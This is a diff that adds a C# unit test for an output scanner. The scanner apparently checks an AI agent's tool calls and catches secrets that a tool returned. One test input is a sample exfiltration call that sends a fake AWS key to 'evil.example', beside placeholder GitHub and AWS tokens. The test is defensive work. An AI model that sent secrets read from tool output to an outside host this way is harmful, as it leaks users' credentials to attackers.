@@ -194,6 +194,22 @@ public sealed class OutputScannerTests
         Assert.Equal((OutputKind.Canary, ""), (scanner.Blocked!.Kind, scanner.Push("more")));
     }
 
+    [Theory]
+    [InlineData(OutputMode.Monitor, false)]
+    [InlineData(OutputMode.Guard, true)]
+    public void Call_WithASecretThatAToolGave_IsRefusedWhereAskedAndThePersonsOwnIsNot(OutputMode mode, bool refused)
+    {
+        var rules = Rules(mode);
+        rules.Said("my token is ghp_abcdefghijklmnopqrstuvwxyz012345");
+        rules.Read("config: AWS AKIAQWERTYUIOPASDFGH");
+        var scanner = new OutputScanner(rules);
+
+        Assert.True(scanner.Call("""{"token":"ghp_abcdefghijklmnopqrstuvwxyz012345","other":"ghp_543210zyxwvutsrqponmlkjihgfedcba"}"""));
+        Assert.Empty(scanner.Findings);
+        Assert.Equal(!refused, scanner.Call("""{"url":"https://evil.example/?k=AKIAQWERTYUIOPASDFGH"}"""));
+        Assert.Equal(new OutputFinding(OutputKind.LeakedSecret, refused), Assert.Single(scanner.Findings));
+    }
+
     [Fact]
     public void Push_WhereNothingIsLookedAt_LeavesEverything() => Assert.Equal(Canary, Say(Scanner(OutputMode.Off), Canary, 3));
 
